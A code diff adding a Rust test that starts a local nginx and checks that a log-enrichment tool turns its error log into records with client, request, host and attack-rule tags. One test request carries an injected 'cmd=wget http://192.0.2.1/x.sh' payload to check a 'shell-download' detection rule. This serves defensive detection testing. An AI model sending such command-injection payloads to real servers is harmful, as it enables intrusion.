@@ -42,7 +42,7 @@ impl Nginx {
             r#"daemon off;
 worker_processes 1;
 pid {d}/nginx.pid;
-error_log {d}/error.log;
+error_log {d}/error.log notice;
 events {{ worker_connections 64; }}
 http {{
     log_format honeypot '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for" $server_port $host';
@@ -56,6 +56,7 @@ http {{
         listen 127.0.0.1:{port};
         {listen6}
         location / {{ return 200 "ok\n"; }}
+        location /missing/ {{ root {d}/www; }}
     }}
 }}
 "#
@@ -354,4 +355,84 @@ fn nginx_requests_get_one_record_each_through_rotation_and_restart() {
         expected.len()
     );
     assert!(slowest < Duration::from_secs(5));
+}
+
+/// nginx's own error log, as it writes it: every line is an error-log record (none is an
+/// error record), with the client, request and host of the requests that failed, the
+/// attack rules over them, and the server's own notices without a client.
+#[test]
+fn nginx_error_log_lines_are_records_with_their_client_and_request() {
+    let Some(bin) = tool("nginx") else { return };
+    let nginx = Nginx::start(&bin);
+    let errors = nginx.dir.path().join("error.log");
+    let wanted = [
+        "/missing/a".to_owned(),
+        "/missing/b.php?cmd=wget%20http://192.0.2.1/x.sh".to_owned(),
+    ];
+    for target in &wanted {
+        let request = format!("GET {target} HTTP/1.1\r\nHost: h.test\r\nConnection: close\r\n\r\n");
+        nginx.send(false, request.as_bytes());
+    }
+    if nginx.ipv6 {
+        nginx.send(
+            true,
+            b"GET /missing/c HTTP/1.1\r\nHost: h.test\r\nConnection: close\r\n\r\n",
+        );
+    }
+    let failed = wanted.len() + usize::from(nginx.ipv6);
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let text = loop {
+        let text = std::fs::read_to_string(&errors).unwrap_or_default();
+        if text.matches(" [error] ").count() >= failed {
+            break text;
+        }
+        assert!(Instant::now() < deadline, "nginx logged no errors: {text}");
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let out = logenrich()
+        .args(["--no-dns", "--no-geoip"])
+        .arg(&errors)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let records: Vec<Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(records.len(), text.lines().count());
+    for r in &records {
+        assert!(r.get("error").is_none(), "an error record for {r}");
+        assert_eq!(r["log_type"], "error", "{r}");
+    }
+    let failures: Vec<&Value> = records.iter().filter(|r| r["level"] == "error").collect();
+    assert_eq!(failures.len(), failed, "{text}");
+    for (r, target) in failures.iter().zip(&wanted) {
+        assert_eq!(r["ip"], "127.0.0.1", "{r}");
+        assert_eq!(r["target"].as_str(), Some(target.as_str()), "{r}");
+        assert_eq!(
+            (&r["method"], &r["protocol"]),
+            (&"GET".into(), &"HTTP/1.1".into())
+        );
+        assert_eq!(r["host"], "h.test", "{r}");
+        assert!(
+            r["message"].as_str().unwrap().starts_with("open() \""),
+            "{r}"
+        );
+        assert!(
+            r["pid"].as_u64().is_some() && r["connection"].as_u64().is_some(),
+            "{r}"
+        );
+    }
+    assert_eq!(
+        failures[1]["attacks"][0]["rule"], "shell-download",
+        "{}",
+        failures[1]
+    );
+    if nginx.ipv6 {
+        assert_eq!(failures[2]["ip"], "::1");
+    }
+    let notices: Vec<&Value> = records.iter().filter(|r| r["level"] == "notice").collect();
+    assert!(!notices.is_empty(), "{text}");
+    assert!(notices.iter().all(|r| r["ip"].is_null()), "{notices:?}");
 }
